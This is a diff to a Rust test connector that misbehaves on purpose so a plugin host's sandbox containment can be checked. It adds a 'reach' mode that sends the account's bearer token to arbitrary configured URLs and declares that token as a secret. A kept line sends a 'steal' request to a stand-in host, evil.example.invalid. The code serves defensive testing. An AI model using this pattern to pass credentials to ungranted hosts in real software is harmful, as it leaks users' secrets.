@@ -1,13 +1,13 @@
 //! A connector that misbehaves on purpose, for the host's containment tests.
 //!
 //! The `mode` setting picks the misdeed: `ok` behaves; `loop`, `memory-bomb`, `panic`,
-//! `huge-output`, `read-file`, `read-env`, `open-socket`, `pii`, `garbled-records`, `bad-url`
-//! each try one thing a sandboxed connector must not get away with. Probes that can fail
+//! `huge-output`, `read-file`, `read-env`, `open-socket`, `pii`, `garbled-records`, `bad-url`,
+//! `reach` each try one thing a sandboxed connector must not get away with. Probes that can fail
 //! quietly (file, env, socket) report their outcome through `log`, so tests can assert that the
 //! sandbox said no.
 
 use boxoffice_plugin_sdk::{
-    bindings::Guest, get, setting, HostApi, HttpRequest, HttpResponse, Level, Manifest, Page,
+    bindings::Guest, get, setting, Auth, HostApi, HttpRequest, HttpResponse, Level, Manifest, Page,
     PersonalId, PluginError, RecordWriter, RunContext, Ticket, TicketStatus, WasmHost,
 };
 
@@ -81,6 +81,20 @@ pub fn begin_with(
             host.log(Level::Info, &format!("open-socket: {}", outcome(r)));
         }
         "bad-url" => return Ok(vec![get("steal", "https://evil.example.invalid/x", vec![])]),
+        // Tries every URL of the `targets` setting (comma-separated) with the account's token:
+        // the daemon test points them at a loopback listener nobody granted.
+        "reach" => {
+            let targets = setting(ctx, "targets").unwrap_or("");
+            return Ok(targets
+                .split(',')
+                .filter(|t| !t.is_empty())
+                .map(|t| {
+                    let mut r = get("reach", t, vec![]);
+                    r.auth = Auth::BearerHeader("token".into());
+                    r
+                })
+                .collect());
+        }
         _ => {}
     }
     Ok(vec![get("page", "https://allowed.test/tickets", vec![])])
@@ -144,7 +158,8 @@ impl Guest for Testbed {
             vendor: "Testbed".into(),
             version: env!("CARGO_PKG_VERSION").into(),
             allowed_hosts: vec!["allowed.test".into()],
-            secrets: vec![],
+            // Declared so hostile modes can ask for the account's token where it must not go.
+            secrets: vec!["token".into()],
             settings: vec![],
             default_interval_secs: 60,
             max_requests_per_minute: 600,
